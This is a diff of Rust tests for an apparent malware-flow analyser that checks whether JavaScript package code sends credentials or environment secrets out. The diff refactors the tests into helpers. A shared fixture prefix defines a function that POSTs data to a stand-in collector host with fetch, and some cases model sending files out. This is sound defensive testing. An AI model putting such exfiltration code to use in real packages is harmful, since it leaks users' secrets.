@@ -3,7 +3,7 @@
 
 use weir_model::contents::{CapabilityKind, SourceKind, Surface};
 
-use super::{installed, run};
+use super::{assert_each_flows, assert_none_flows, run};
 
 use SourceKind::{CredentialFile, Environment, SecretVariable};
 
@@ -186,30 +186,18 @@ const WAYS: &[(&str, SourceKind, &str)] = &[
     ),
 ];
 
-fn with_modules(code: &str) -> String {
-    format!(
-        "const fs = require('fs'), os = require('os'), cp = require('child_process'); \
-         const send = body => fetch('https://collector.invalid', {{ method: 'POST', body }}); {code}"
-    )
-}
+/// What all of them begin with.
+const BEFORE: &str = "const fs = require('fs'), os = require('os'), cp = require('child_process'); \
+     const send = body => fetch('https://collector.invalid', { method: 'POST', body }); ";
 
 #[test]
 fn values_are_followed_on_less_common_ways() {
-    let mut missed = String::new();
-    for (says, source, code) in WAYS {
-        let code = with_modules(code);
-        let facts = installed(&[("index.js", &code)]);
-        if !facts.flows.iter().any(|flow| flow.source == *source) {
-            missed.push_str(&format!("{says}: {:?}\n", facts.flows));
-        }
-    }
-    assert!(missed.is_empty(), "{missed}");
+    assert_each_flows(BEFORE, WAYS);
 }
 
 #[test]
 fn harmless_neighbours_have_no_flow() {
-    let mut wrong = String::new();
-    for (says, code) in [
+    let cases = [
         (
             "sends the message of an error",
             "const run = () => { cp.spawnSync('make', { env: process.env }); throw new Error('failed') }; try { run() } catch (e) { send(e.message) }",
@@ -250,14 +238,8 @@ fn harmless_neighbours_have_no_flow() {
             "packs its own folder",
             "cp.execSync('tar czf /tmp/x.tgz dist'); send(fs.readFileSync('/tmp/x.tgz'))",
         ),
-    ] {
-        let code = with_modules(code);
-        let facts = installed(&[("index.js", &code)]);
-        if !facts.flows.is_empty() {
-            wrong.push_str(&format!("{says}: {:?}\n", facts.flows));
-        }
-    }
-    assert!(wrong.is_empty(), "{wrong}");
+    ];
+    assert_none_flows(BEFORE, &cases);
 }
 
 /// Whether the files, the second of which is loaded, write into another package.
